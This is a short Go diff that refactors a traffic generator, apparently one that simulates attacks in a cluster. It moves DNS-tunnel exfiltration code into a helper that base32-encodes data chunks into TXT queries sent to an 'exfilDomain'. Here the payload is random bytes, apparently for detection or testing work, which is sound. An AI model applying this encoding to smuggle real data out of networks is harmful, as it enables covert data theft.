@@ -155,13 +155,18 @@ var b32 = base32.NewEncoding("abcdefghijklmnopqrstuvwxyz234567").WithPadding(bas
 func (g *Generator) tunnel() {
 	rec := g.pod("recommendation")
 	for range 3 {
-		chunk := make([]byte, 60)
-		for i := range chunk {
-			chunk[i] = byte(g.rng.IntN(256))
-		}
-		query := b32.EncodeToString(chunk[:35]) + "." + b32.EncodeToString(chunk[35:]) + "." + exfilDomain
-		g.lookup(rec, query, "TXT", answer{rcode: rcodeNoError, ttl: 0}, g.forward)
+		g.tunnelQuery(rec)
 	}
+}
+
+// tunnelQuery sends one chunk of data from p in a TXT query.
+func (g *Generator) tunnelQuery(p *pod) {
+	chunk := make([]byte, 60)
+	for i := range chunk {
+		chunk[i] = byte(g.rng.IntN(256))
+	}
+	query := b32.EncodeToString(chunk[:35]) + "." + b32.EncodeToString(chunk[35:]) + "." + exfilDomain
+	g.lookup(p, query, "TXT", answer{rcode: rcodeNoError, ttl: 0}, g.forward)
 }
 
 // probeDatabase: the ad pod, which has no business with the orders
